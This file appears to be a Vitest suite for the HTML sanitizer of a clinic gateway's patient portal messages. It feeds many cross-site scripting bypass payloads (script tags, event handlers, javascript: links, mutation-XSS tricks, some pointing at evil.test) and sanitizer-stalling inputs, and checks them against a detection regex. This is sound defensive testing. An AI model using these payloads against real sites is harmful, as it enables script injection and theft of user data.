import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ofPatient } from '../../support/documents.ts';
import { startTestGateway, type TestGateway } from '../../support/gateway.ts';
import { queueOf } from '../../support/simulators.ts';

let gateway: TestGateway;
beforeAll(async () => {
  gateway = await startTestGateway();
});
afterAll(() => gateway.close());
beforeEach(() => gateway.forget());

interface Content {
  title: string;
  contentHtml: string | null;
  contentText: string | null;
}

/** What a patient typed, as it stands in the queue of Cerbo. */
async function shown(content: string): Promise<Content> {
  const { state } = queueOf(gateway, 'CERBO');
  const request = state.enqueue({
    pt_id: 221,
    request_type: 'secure_message',
    title: 'Under test',
    content,
    notes: null,
    associated_resource_id: null,
    associated_resource_type: null,
    created: '2026-04-01 00:00:00',
  });
  const { data } = await gateway.query(
    ofPatient(
      'portalRequests(filter: { vendor: [CERBO] }, first: 1) { nodes { title contentHtml contentText } }',
    ),
    { id: gateway.ids.Ana },
  );
  state.requests.splice(state.requests.indexOf(request), 1);
  const [node] = data.patient.portalRequests.nodes;
  expect(node.title).toBe('Under test');
  return node;
}

const harmful =
  /<\s*\/?(script|style|iframe|svg|math|object|embed|form|input|button|base|meta|link|img|video|audio|template|noscript|xmp)\b|\son\w+\s*=|style\s*=|srcdoc|javascript:|vbscript:|data:/i;

describe('PortalRequest.contentHtml', () => {
  it.each([
    ['a script', '<p>a</p><script>alert(1)</script>'],
    ['a script in capitals', '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>a'],
    ['a script within a script', '<scr<script>ipt>alert(1)</scr</script>ipt>a'],
    ['an unclosed script', 'a<script>alert(1)'],
    ['a handler', '<p onclick="alert(1)">a</p>'],
    ['a handler without quotes', '<b onmouseover=alert(1)>a</b>'],
    ['a handler after a slash', '<a/onclick=alert(1)//href="https://x.test">a</a>'],
    ['an image with a handler', 'a<img src=x onerror="alert(1)">'],
    ['an unclosed image', 'a<img src=x onerror=alert(1)//'],
    ['a javascript link', '<a href="javascript:alert(1)">a</a>'],
    ['a javascript link in mixed case', '<a href=" jAvAsCrIpT:alert(1)">a</a>'],
    ['a javascript link in entities', '<a href="&#106;avascript&colon;alert(1)">a</a>'],
    ['a javascript link with a tab', '<a href="java\tscript:alert(1)">a</a>'],
    ['a vbscript link', '<a href="vbscript:msgbox(1)">a</a>'],
    ['a data link', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
    ['a frame', '<iframe srcdoc="<script>alert(1)</script>">a</iframe>a'],
    ['a drawing', '<svg onload=alert(1)><script>alert(1)</script></svg>a'],
    [
      'a drawing with style',
      '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>a',
    ],
    ['a style', '<style>*{background:url(https://evil.test)}</style>a'],
    ['a style attribute', '<p style="background:url(javascript:alert(1))">a</p>'],
    ['a form', '<form action="https://evil.test"><input name=p></form>a'],
    ['a base', '<base href="https://evil.test/">a'],
    ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.test">a'],
    ['an object', '<object data="https://evil.test"></object><embed src=x>a'],
    ['a comment', '<!--><img src=x onerror=alert(1)>-->a'],
    ['a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a'],
  ])('lets nothing through of %s', async (_name, content) => {
    const { contentHtml } = await shown(content);
    expect(contentHtml).not.toMatch(harmful);
  });

  it('keeps plain formatting', async () => {
    const html = '<h2>Form</h2><p>Pain for <i>three</i> days</p><ul><li>one</li></ul>';
    expect((await shown(html)).contentHtml).toBe(html);
  });

  it('keeps a link, and keeps its target from learning where the reader came from', async () => {
    const { contentHtml } = await shown(
      '<a href="https://clinic.example.test/f" target="x">form</a>',
    );
    expect(contentHtml).toBe(
      '<a href="https://clinic.example.test/f" rel="noopener noreferrer nofollow">form</a>',
    );
  });

  it.each([['//evil.test/x'], ['http://evil.test/x']])('drops the address %s', async (href) => {
    expect((await shown(`<a href="${href}">form</a>`)).contentHtml).not.toContain('evil.test');
  });

  it('of the questionnaires at both vendors is clean', async () => {
    const { data, text } = await gateway.query(
      ofPatient(
        'portalRequests(filter: { type: [QUESTIONNAIRE] }) { nodes { vendor contentHtml contentText } }',
      ),
      { id: gateway.ids.Ana },
    );
    const { nodes } = data.patient.portalRequests;
    expect(nodes.map(({ vendor }: { vendor: string }) => vendor)).toEqual(['CERBO', 'MD_HQ']);
    for (const { contentHtml, contentText } of nodes) {
      expect(contentHtml).not.toMatch(harmful);
      expect(contentHtml).toContain('<b>penicillin</b> &amp; nuts');
      expect(contentText).toMatch(/^New patient intake\n+Allergies: penicillin & nuts\n/);
    }
    expect(text).not.toMatch(/script ran|handler ran|image ran|link ran/);
  });
});

describe('J09: a text that takes the sanitizer long', () => {
  const often = (part: string, times: number) => part.repeat(times);
  /** Alone they take from ten seconds to a minute. */
  const long: [what: string, content: string][] = [
    ['tags that are left open', often('<div>', 150_000)],
    ['tags that nobody knows', often('<x>', 250_000)],
    ['lists in lists', often('<ul><li>', 100_000)],
    ['ends of nothing', often('<b>', 100_000) + often('</x>', 100_000)],
    [
      'a link full of comments',
      `<a href="https://x.test/${often('<!---->', 9_900)}${'x'.repeat(800_000)}">a</a>`,
    ],
  ];
  it.each(long)('(%s) holds nobody up', async (_name, content) => {
    let latest = 0;
    let last = performance.now();
    const watch = setInterval(() => {
      latest = Math.max(latest, performance.now() - last);
      last = performance.now();
    }, 5);
    const { contentHtml, contentText } = await shown(content);
    clearInterval(watch);
    latest = Math.max(latest, performance.now() - last);
    // On a machine that does other things, too; alone it is a tenth of a second.
    expect(latest).toBeLessThan(3_000);
    expect(contentHtml).not.toMatch(/<(?!a |\/a>)/);
    expect(contentText).not.toBeNull();
  });

  it('of thousands of tags is shown as it was written, and nothing of it is lost', async () => {
    const content = `<p>Pain &amp; "fever"</p>${often('<i>', 10_000)}`;
    const { contentHtml, contentText } = await shown(content);
    expect(contentText).toBe(content);
    expect(contentHtml).toMatch(
      /^&lt;p&gt;Pain &amp;amp; &quot;fever&quot;&lt;\/p&gt;(&lt;i&gt;){10000}$/,
    );
  });

  it('but of a long form is read as it is meant, each text in its turn', async () => {
    const form = `<table>${often('<tr><td>A question</td><td><b>yes</b></td></tr>', 1_200)}</table>`;
    const { contentHtml, contentText } = await shown(form);
    expect(contentHtml).toBe(form);
    expect(contentText).toMatch(/^(A questionyes\n?){1200}$/);
  });

  it('drops the address of a link without end', async () => {
    const { contentHtml } = await shown(`<a href="https://x.test/${often('x', 2_048)}">a</a>`);
    expect(contentHtml).toBe('<a rel="noopener noreferrer nofollow">a</a>');
  });
});

describe('PortalRequest.contentText', () => {
  it('is the text without tags, lines for paragraphs, and entities resolved', async () => {
    const { contentText } = await shown(
      '<p>Fish &amp; chips</p><p>3 &lt; 4&nbsp;&gt; 2</p><script>alert(1)</script>one<br>two',
    );
    expect(contentText).toBe('Fish & chips\n3 < 4 > 2\none\ntwo');
  });

  it('leaves what only looks like an entity as it was typed', async () => {
    expect((await shown('&amp;lt;b&amp;gt;')).contentText).toBe('&lt;b&gt;');
  });

  it('is plain text as it is', async () => {
    expect(await shown('Next week, please')).toMatchObject({
      contentHtml: 'Next week, please',
      contentText: 'Next week, please',
    });
  });
});
